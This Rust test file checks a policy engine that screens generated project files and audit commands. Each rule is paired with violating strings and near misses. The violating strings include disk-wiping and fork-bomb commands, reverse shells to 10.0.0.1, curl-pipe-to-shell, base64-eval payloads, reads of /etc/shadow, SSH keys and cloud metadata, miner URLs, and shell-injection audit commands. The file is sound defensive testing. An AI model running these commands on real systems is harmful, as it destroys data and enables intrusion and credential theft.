//! Every rule in the real policy.yaml, each with text that breaks it and near-miss text that
//! must not. A rule added to policy.yaml without an entry here fails `every_rule_is_exercised`.

use std::collections::BTreeSet;

use gantry_domain::policy::{Policy, Violation};
use gantry_domain::{GantryManifest, ManifestFile, Stack};

/// Secrets are assembled at run time so this file never holds one a scanner would flag.
fn fake(prefix: &str, body: &str, len: usize) -> String {
    format!("{prefix}{}", body.repeat(len.div_ceil(body.len()))[..len].to_owned())
}

fn policy() -> Policy {
    Policy::default_policy().expect("the embedded policy.yaml loads")
}

fn manifest_with(path: &str, content: &str) -> GantryManifest {
    GantryManifest {
        project_name: "todo-app".to_owned(),
        stack: Stack::Static,
        files: vec![ManifestFile { path: path.to_owned(), content: content.to_owned() }],
        audit_command: "python3 audit.py".to_owned(),
        run_command: None,
        output_dir: None,
    }
}

fn content_violations(policy: &Policy, content: &str) -> Vec<Violation> {
    policy.evaluate(&manifest_with("app/main.txt", content)).violations
}

fn path_violations(policy: &Policy, path: &str) -> Vec<Violation> {
    policy.evaluate(&manifest_with(path, "")).violations
}

fn rules(violations: &[Violation]) -> Vec<&str> {
    violations.iter().map(|v| v.rule.as_str()).collect()
}

struct Case {
    rule: &'static str,
    bad: Vec<String>,
    good: Vec<String>,
}

fn case(rule: &'static str, bad: &[&str], good: &[&str]) -> Case {
    Case {
        rule,
        bad: bad.iter().map(|s| (*s).to_owned()).collect(),
        good: good.iter().map(|s| (*s).to_owned()).collect(),
    }
}

fn path_cases() -> Vec<Case> {
    vec![
        case(
            "path.dotenv",
            &[".env", "config/.env.production", ".env.local"],
            &[".env.example", "environment.js"],
        ),
        case("path.ssh", &[".ssh/authorized_keys", "home/.ssh/config"], &["ssh-guide.md", "docs/sshd.md"]),
        case(
            "path.private_key",
            &["id_rsa", "keys/id_ed25519", "certs/server.key", "tls/cert.pem", "store.p12"],
            &["id_rsa.pub", "keyboard.js", "monkey.js", "keys.json"],
        ),
        case(
            "path.credentials",
            &[".npmrc", ".aws/credentials", ".netrc", "deploy/.docker/config.json", ".git-credentials"],
            &[".nvmrc", "credentials.md", "aws/lambda.js", ".dockerignore"],
        ),
        case(
            "path.node_modules",
            &["node_modules/react/index.js", "app/node_modules/x/package.json", "node_modules"],
            &["src/modules/node.ts", "docs/node_modules.md", "my_node_modules/a.js"],
        ),
    ]
}

fn content_cases() -> Vec<Case> {
    vec![
        case(
            "content.rm_rf_root",
            &[
                "rm -rf /",
                "sudo rm -rf --no-preserve-root /",
                "rm -rf ~",
                "rm -fr $HOME/*",
                "os.system('rm -rf /usr')",
                "rm -r -f /*",
            ],
            &["rm -rf node_modules dist", "rm -rf ./build", "rm -rf /tmp/gantry-cache", "remove the form"],
        ),
        case(
            "content.disk_format",
            &["mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sdb", "wipefs -a /dev/nvme0n1"],
            &["format the date", "mkfs is documented in man pages", "the form's fields"],
        ),
        case(
            "content.block_device_write",
            &["dd if=/dev/zero of=/dev/sda bs=1M", "dd if=image.iso of=/dev/nvme0n1", "cat image > /dev/sdb"],
            &["dd if=/dev/zero of=disk.img bs=1M count=1", "echo hi > /dev/null", "add the class"],
        ),
        case(
            "content.chmod_root",
            &["chmod -R 777 /", "chown -R nobody:nogroup /", "chmod 777 / && echo done"],
            &["chmod +x audit.sh", "chmod -R 755 ./public", "use chmod and chown / chgrp with care"],
        ),
        case(
            "content.fork_bomb",
            &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", ":(){ :|: & };:", "%0|%0"],
            &["function add(a, b) { return a | b; }", "const x = a | b & c;", "the fork in the road"],
        ),
        case(
            "content.fork_loop",
            &["while True:\n    os.fork()", "while(1) fork();", "for(;;) fork();", "fork while fork"],
            &["pid = os.fork()", "while True:\n    handle()", "while (running) { tick(); }"],
        ),
        case(
            "content.crypto_miner",
            &["./xmrig -o pool:3333", "stratum+tcp://pool.example:3333", "new CoinHive.Anonymous('k')", "cryptonight"],
            &["a crypto price tracker", "mining insights from the logs", "a coin flip game"],
        ),
        case(
            "content.reverse_shell.dev_tcp",
            &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/203.0.113.9/80"],
            &["read from /dev/tty", "bash -i is an interactive shell", "tcp/ip networking"],
        ),
        case(
            "content.reverse_shell.netcat",
            &[
                "nc -e /bin/sh 10.0.0.1 4444",
                "nc 10.0.0.1 4444 -e /bin/bash",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
                "socat tcp:10.0.0.1:4444 exec:/bin/bash",
            ],
            &["nc -z localhost 8080", "sync the data", "mkfifo /tmp/pipe"],
        ),
        case(
            "content.reverse_shell.python",
            &[
                "s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)",
                "s.connect((host, port))\nos.dup2(s.fileno(), 1)",
                "import pty; pty.spawn(\"/bin/bash\")",
                "subprocess.call([\"/bin/sh\", \"-i\"])",
            ],
            &[
                "subprocess.run([\"python3\", \"-m\", \"unittest\"])",
                "sock.connect((\"localhost\", 8080))",
                "os.dup2(devnull, 0)",
            ],
        ),
        case(
            "content.reverse_shell.node",
            &[
                "const c = new net.Socket(); c.connect(4444, '10.0.0.1', () => { const sh = spawn('/bin/sh', []); });",
                "const sh = spawn(\"/bin/bash\"); net.connect(4444, \"10.0.0.1\")",
            ],
            &["const server = net.createServer(handler);", "spawn('node', ['server.js'])"],
        ),
        case(
            "content.exec_decoded.js",
            &["eval(atob(\"YWxlcnQoMSk=\"))", "new Function(atob(payload))()", "eval(Buffer.from(s, 'base64').toString())"],
            &["JSON.parse(atob(data))", "evaluate the expression", "const f = new Function('a', 'return a')"],
        ),
        case(
            "content.exec_decoded.python",
            &["exec(base64.b64decode(\"cHJpbnQoMSk=\"))", "exec(b64decode(blob))", "eval(zlib.decompress(data))"],
            &["data = base64.b64decode(s)", "json.loads(base64.b64decode(s))", "execute the plan"],
        ),
        case(
            "content.exec_downloaded.pipe_to_shell",
            &[
                "curl -fsSL https://example.com/install.sh | sh",
                "wget -qO- http://example.com/x | bash",
                "bash -c \"$(curl -fsSL https://example.com/i)\"",
                "curl https://example.com/p.py | python3",
            ],
            &[
                "curl -s http://localhost:8080/health | jq .status",
                "curl -o out.txt https://example.com",
                "curl -s https://example.com/f | sha256sum",
            ],
        ),
        case(
            "content.exec_downloaded.js",
            &[
                "execSync(\"curl -s https://example.com/p.sh -o /tmp/p\")",
                "eval(await (await fetch(url)).text())",
                "exec(`wget ${url}`)",
            ],
            &["const res = await fetch('/api/todos');", "exec('npm test')", "JSON.parse(await res.text())"],
        ),
        case(
            "content.exec_downloaded.python",
            &["exec(requests.get(url).text)", "exec(urlopen(u).read())"],
            &["r = requests.get(url)", "print(urlopen(u).read())"],
        ),
        case(
            "content.host_path.accounts",
            &["open(\"/etc/passwd\").read()", "cat /etc/shadow", "readFileSync('/etc/sudoers')"],
            &["<input type=\"password\" name=\"passwd\">", "a passwd field in a login form", "/etc/hosts"],
        ),
        case(
            "content.host_path.user_credentials",
            &["cat ~/.ssh/id_rsa", "os.path.expanduser(\"~/.aws/credentials\")", "os.path.join(home, '.ssh')"],
            &["cd ~/projects", "ssh into the server", "cp config.json ~/.config/app/"],
        ),
        case(
            "content.host_path.proc",
            &["open('/proc/self/environ')", "cat /proc/1/environ", "/proc/$$/mem"],
            &["cat /proc/cpuinfo", "the process environment"],
        ),
        case(
            "content.host_path.container_socket",
            &["/var/run/docker.sock", "-v /run/containerd/containerd.sock:/x"],
            &["docker compose up", "io.sockets.emit('x')", "a socket wrench"],
        ),
        case(
            "content.host_path.cloud_metadata",
            &[
                "http://169.254.169.254/latest/meta-data/",
                "curl metadata.google.internal",
                "$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
                "http://169.254.170.2/v2/credentials",
            ],
            &["http://127.0.0.1:8080", "169.254.1.1", "AWS_REGION"],
        ),
    ]
}

fn secret_cases() -> Vec<Case> {
    let alnum = "A1b2C3d4E5f6G7h8J9k0";
    let upper = "ABCDEFGHIJKLMNOP1234567";
    vec![
        Case {
            rule: "secret.aws_access_key_id",
            bad: vec![fake("AKIA", upper, 16), format!("key = \"{}\"", fake("ASIA", upper, 16))],
            good: vec![fake("AKIA", upper, 10), "AKIA is the access key prefix".to_owned()],
        },
        Case {
            rule: "secret.aws_secret_access_key",
            bad: vec![
                format!("aws_secret_access_key = {}", fake("", "wJalrXUtnFEMI/K7MDENG+bPxRfiCY", 40)),
                format!("AWS_SECRET_ACCESS_KEY=\"{}\"", fake("", alnum, 40)),
                format!("secretAccessKey: '{}'", fake("", alnum, 40)),
            ],
            good: vec![
                "aws_secret_access_key = os.environ[\"AWS_SECRET_ACCESS_KEY\"]".to_owned(),
                "secretAccessKey: process.env.SECRET".to_owned(),
            ],
        },
        Case {
            rule: "secret.private_key",
            bad: vec![
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----".to_owned(),
                "-----BEGIN OPENSSH PRIVATE KEY-----".to_owned(),
                "-----BEGIN PRIVATE KEY-----".to_owned(),
                "-----BEGIN PGP PRIVATE KEY BLOCK-----".to_owned(),
            ],
            good: vec!["-----BEGIN PUBLIC KEY-----".to_owned(), "-----BEGIN CERTIFICATE-----".to_owned()],
        },
        Case {
            rule: "secret.github_token",
            bad: vec![
                fake("ghp_", alnum, 36),
                fake("gho_", alnum, 36),
                fake("ghu_", alnum, 36),
                fake("ghs_", alnum, 36),
                fake("ghr_", alnum, 36),
                fake("github_pat_", "11ABCDEFG0_abcdefghijk", 82),
            ],
            good: vec!["ghp_".to_owned(), "deploy to gh_pages".to_owned(), fake("ghp_", alnum, 12)],
        },
        Case {
            rule: "secret.vercel_token",
            bad: vec![fake("vercel_", alnum, 24), format!("VERCEL_TOKEN={}", fake("", alnum, 24))],
            good: vec![
                "VERCEL_TOKEN=${VERCEL_TOKEN}".to_owned(),
                "const t = process.env.VERCEL_TOKEN".to_owned(),
                "VERCEL_TOKEN=your-vercel-token-here".to_owned(),
                "vercel_project_settings".to_owned(),
            ],
        },
        Case {
            rule: "secret.slack_token",
            bad: vec![
                fake("xoxb-", "1234567890-", 30),
                fake("xoxp-", "0987654321-", 40),
                format!("https://hooks.slack.com/services/T0123/B0456/{}", fake("", alnum, 24)),
            ],
            good: vec!["xoxo, hugs".to_owned(), "https://slack.com/help".to_owned()],
        },
        Case {
            rule: "secret.stripe_live_key",
            bad: vec![fake("sk_live_", alnum, 24), fake("rk_live_", alnum, 24)],
            good: vec![fake("sk_test_", alnum, 24), "live_preview".to_owned()],
        },
        Case {
            rule: "secret.ai_api_key",
            bad: vec![fake("sk-", alnum, 48), fake("sk-ant-api03-", alnum, 90), fake("sk-proj-", alnum, 60)],
            good: vec![".task-list-item { color: red }".to_owned(), "sk-short".to_owned()],
        },
        Case {
            rule: "secret.google_api_key",
            bad: vec![fake("AIza", alnum, 35)],
            good: vec!["AIza".to_owned(), fake("AIza", alnum, 20)],
        },
        Case {
            rule: "secret.npm_token",
            bad: vec![fake("npm_", alnum, 36)],
            good: vec!["npm_config_cache".to_owned(), "process.env.npm_package_version".to_owned()],
        },
        Case {
            rule: "secret.generic_api_key",
            bad: vec![
                format!("api_key = \"{}\"", fake("", alnum, 32)),
                format!("const clientSecret = '{}';", fake("", alnum, 24)),
                format!("export OPENAI_API_KEY={}", fake("", alnum, 40)),
            ],
            good: vec![
                "apiKey: process.env.API_KEY".to_owned(),
                "api_key = \"YOUR_API_KEY_HERE_REPLACE_ME\"".to_owned(),
                "const apiKeyLabel = \"API key\";".to_owned(),
                "ACCESS_TOKEN = get_access_token_from_env()".to_owned(),
            ],
        },
    ]
}

#[test]
fn every_rule_is_exercised() {
    let policy = policy();
    let configured: BTreeSet<&str> = policy.rule_ids().collect();
    let cases: Vec<Case> = path_cases().into_iter().chain(content_cases()).chain(secret_cases()).collect();
    let tested: BTreeSet<&str> = cases.iter().map(|c| c.rule).collect();
    assert_eq!(configured, tested, "policy.yaml rules and tested rules differ");
    for case in &cases {
        assert!(!case.bad.is_empty() && !case.good.is_empty(), "{} needs both kinds of example", case.rule);
    }
}

#[test]
fn path_rules_catch_their_paths_and_pass_near_misses() {
    let policy = policy();
    for case in path_cases() {
        for path in &case.bad {
            let found = path_violations(&policy, path);
            assert!(rules(&found).contains(&case.rule), "{} should catch {path:?}; got {found:?}", case.rule);
        }
        for path in &case.good {
            let found = path_violations(&policy, path);
            assert!(found.is_empty(), "{path:?} should pass; got {found:?}");
        }
    }
}

#[test]
fn content_rules_catch_their_text_and_pass_near_misses() {
    let policy = policy();
    for case in content_cases().into_iter().chain(secret_cases()) {
        for text in &case.bad {
            let found = content_violations(&policy, text);
            assert!(rules(&found).contains(&case.rule), "{} should catch {text:?}; got {found:?}", case.rule);
        }
        for text in &case.good {
            let found = content_violations(&policy, text);
            assert!(found.is_empty(), "{text:?} should pass; got {found:?}");
        }
    }
}

#[test]
fn secret_messages_never_echo_the_secret() {
    let policy = policy();
    for case in secret_cases() {
        for text in &case.bad {
            let secret = longest_token(text);
            for violation in content_violations(&policy, text) {
                let leaked = (0..=secret.len().saturating_sub(12))
                    .any(|i| violation.message.contains(&secret[i..(i + 12).min(secret.len())]));
                assert!(!leaked, "{} leaked {secret:?}: {}", violation.rule, violation.message);
            }
        }
    }
}

/// The longest run of token characters in `text`: in these examples, the secret value.
fn longest_token(text: &str) -> &str {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || "_-/+".contains(c)))
        .max_by_key(|run| run.len())
        .unwrap_or_default()
}

struct AuditCase {
    command: &'static str,
    allowed: bool,
}

const AUDIT_CASES: &[AuditCase] = &[
    AuditCase { command: "python3 audit.py", allowed: true },
    AuditCase { command: "python3 ./tools/audit.py --strict", allowed: true },
    AuditCase { command: "python3 /etc/audit.py", allowed: false },
    AuditCase { command: "python3 ../audit.py", allowed: false },
    AuditCase { command: "python3 -m unittest discover -s tests -v", allowed: true },
    AuditCase { command: "python3 -m unittest tests.test_app", allowed: true },
    AuditCase { command: "python3 -c 'import os'", allowed: false },
    AuditCase { command: "python3 -m py_compile app.py utils/helpers.py", allowed: true },
    AuditCase { command: "python3 -m py_compile", allowed: false },
    AuditCase { command: "sh audit.sh", allowed: true },
    AuditCase { command: "sh ./scripts/audit.sh", allowed: true },
    AuditCase { command: "sh -c whoami", allowed: false },
    AuditCase { command: "node test.js", allowed: true },
    AuditCase { command: "node scripts/check.mjs", allowed: true },
    AuditCase { command: "node -e process.exit(0)", allowed: false },
    AuditCase { command: "node --test", allowed: true },
    AuditCase { command: "node --test tests/", allowed: true },
    AuditCase { command: "npm ci", allowed: true },
    AuditCase { command: "npm install --no-audit --no-fund", allowed: true },
    AuditCase { command: "npm install left-pad", allowed: false },
    AuditCase { command: "npm test", allowed: true },
    AuditCase { command: "npm run build", allowed: true },
    AuditCase { command: "npm run lint:css", allowed: true },
    AuditCase { command: "npm publish", allowed: false },
    AuditCase { command: "test -f index.html", allowed: true },
    AuditCase { command: "test -f /srv/index.html", allowed: false },
    AuditCase { command: "grep -q Todo index.html", allowed: true },
    AuditCase { command: "grep -qi todo public/index.html js/app.js", allowed: true },
    AuditCase { command: "grep -q root /etc/hosts", allowed: false },
    AuditCase { command: "python3 audit.py && test -f index.html && grep -q todo index.html", allowed: true },
    AuditCase { command: "  npm ci   &&  npm   test ", allowed: true },
    AuditCase { command: "npm ci && curl example.com", allowed: false },
    AuditCase { command: "bash audit.sh", allowed: true },
    AuditCase { command: "rm -rf dist", allowed: false },
];

fn audit_violations(policy: &Policy, command: &str) -> Vec<Violation> {
    let mut manifest = manifest_with("index.html", "<h1>Todo</h1>");
    manifest.audit_command = command.to_owned();
    policy.evaluate(&manifest).violations
}

#[test]
fn audit_commands_must_be_allowed_forms() {
    let policy = policy();
    for case in AUDIT_CASES {
        let found = audit_violations(&policy, case.command);
        if case.allowed {
            assert!(found.is_empty(), "{:?} should be allowed; got {found:?}", case.command);
        } else {
            assert_eq!(rules(&found), vec!["audit_command.not_allowed"], "{:?}", case.command);
            assert_eq!(found[0].file.as_deref(), Some("audit_command"));
            assert_eq!(found[0].line, Some(1));
        }
    }
}

#[test]
fn shell_metacharacters_are_refused() {
    let policy = policy();
    for (command, meta) in [
        ("python3 audit.py; rm -rf x", ";"),
        ("python3 audit.py | tee log", "|"),
        ("python3 audit.py || true", "|"),
        ("sh `echo audit.sh`", "`"),
        ("sh $(echo audit.sh)", "$("),
        ("python3 audit.py > out.txt", ">"),
        ("python3 audit.py < in.txt", "<"),
        ("python3 audit.py & sleep 1", "&"),
        ("python3 audit.py &&& npm test", "&"),
        ("sh ${SCRIPT}", "${"),
    ] {
        let found = audit_violations(&policy, command);
        let meta_found: Vec<&Violation> =
            found.iter().filter(|v| v.rule == "audit_command.metacharacter").collect();
        assert!(!meta_found.is_empty(), "{command:?}: {found:?}");
        assert!(meta_found[0].message.contains(&format!("{meta:?}")), "{command:?}: {found:?}");
        assert!(
            found.iter().all(|v| v.rule != "audit_command.not_allowed"),
            "a step with a metacharacter is reported once, as such: {found:?}"
        );
    }
}

#[test]
fn a_newline_in_the_audit_command_is_refused_on_its_line() {
    let found = audit_violations(&policy(), "python3 audit.py\nrm -rf dist");
    assert_eq!(rules(&found), vec!["audit_command.metacharacter"]);
    assert_eq!(found[0].line, Some(1));
    let found = audit_violations(&policy(), "python3 audit.py && sh a.sh\n\n&& npm test;");
    let semicolon = found.iter().find(|v| v.message.contains("\";\"")).expect("`;` reported");
    assert_eq!(semicolon.line, Some(3));
}

#[test]
fn empty_steps_around_the_separator_are_refused() {
    let policy = policy();
    for command in ["python3 audit.py &&", "&& npm test", "npm ci &&  && npm test"] {
        let found = audit_violations(&policy, command);
        assert_eq!(rules(&found), vec!["audit_command.empty_segment"], "{command:?}");
    }
}
